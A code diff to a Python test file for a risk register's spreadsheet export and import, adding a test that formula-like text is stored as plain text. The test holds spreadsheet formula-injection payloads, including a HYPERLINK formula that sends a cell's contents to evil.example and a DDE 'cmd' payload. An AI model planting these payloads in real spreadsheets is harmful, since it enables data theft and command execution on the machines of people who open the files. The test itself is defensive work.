@@ -75,6 +75,7 @@ def test_export_then_import_changes_nothing_and_updates_what_was_edited(personas
         ("indicators", "BP1, BP99", "unknown indicator code(s) BP99"),
         ("title", "x" * 201, "201 characters; at most 200"),
         ("owner", "y" * 121, "121 characters; at most 120"),
+        ("scheme", "z" * 5001, "5001 characters; at most 5000"),
     ],
 )
 def test_bad_cells_are_named_and_nothing_is_written(personas, make_risk, column, value, message):
@@ -188,3 +189,22 @@ def test_office_restricted_import_refuses_other_offices(personas, make_risk):
     assert rejected.value.errors == [
         "Row 2 (R-001), column “office”: AIRP1 is not your office; you may only import risks of your own office."
     ]
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_the_same(personas, make_risk):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    risk = make_risk(title=attack, scheme="+cmd|' /C calc'!A0", owner="@head")
+    Control.objects.create(risk=risk, kind="detective", description="=1+1")
+    data = _export(personas["ingrid"])
+    book = load_workbook(io.BytesIO(data))
+    for sheet, column, text in (
+        (book["Risks"], "title", attack),
+        (book["Risks"], "scheme", "+cmd|' /C calc'!A0"),
+        (book["Risks"], "owner", "@head"),
+        (book["Controls"], "description", "=1+1"),
+    ):
+        cell = _cell(sheet, 2, column)
+        assert (cell.value, cell.data_type) == (text, "s")
+    assert register_import(data=data, actor=personas["ingrid"]) == {"created": 0, "updated": 1}
+    risk.refresh_from_db()
+    assert (risk.title, risk.scheme, risk.owner) == (attack, "+cmd|' /C calc'!A0", "@head")
